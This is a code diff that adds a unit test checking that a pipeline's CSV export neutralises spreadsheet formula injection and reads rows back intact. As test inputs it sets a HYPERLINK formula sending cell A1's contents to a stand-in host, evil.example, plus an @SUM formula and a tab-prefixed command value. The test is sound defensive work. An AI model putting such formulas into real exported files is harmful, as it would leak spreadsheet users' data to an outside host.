@@ -466,3 +466,29 @@ def test_truncated_adapter_weights_or_a_broken_meta_name_the_file_and_the_fix(tm
     with pytest.raises(InputError, match=rf"{meta}: not a valid model description .*fix: restore it with "
                                          rf"`dvc checkout {broken}`"):
         load_trained_model(broken, dtype="float32")
+
+
+# --- extract's CSV in a spreadsheet ----------------------------------------------------------------
+
+
+def test_extract_csv_neutralises_spreadsheet_formulas_and_reads_back(tmp_path, real_examples):
+    import csv
+
+    from stages.extract import classified_rows, read_rows, write_rows
+
+    exs = [e for e in real_examples[Path(BABCOCK).stem] if e.label != "NO_RELATION"][:6]
+    rows = classified_rows(exs, [e.label for e in exs], [0.9] * len(exs))
+    rows[0].subject = '=HYPERLINK("http://evil.example/?"&A1,"Ptychagnostus")'
+    rows[1].object = "+1-555-0100"
+    rows[2].sentence = "-3 m below the base: " + rows[2].sentence
+    rows[3].section = "@SUM(A1:A9)"
+    rows[4].subject = "'=already quoted"
+    rows[5].paper = "\tcmd"
+    path = tmp_path / "rows.csv"
+    write_rows(path, rows)
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for cell in ("'=HYPERLINK(", "'+1-555-0100", "'-3 m below", "'@SUM(A1:A9)", "''=already quoted", "'\tcmd"):
+        assert any(c.startswith(cell) for c in cells), cell
+    assert read_rows(path) == rows  # the apostrophes come off again
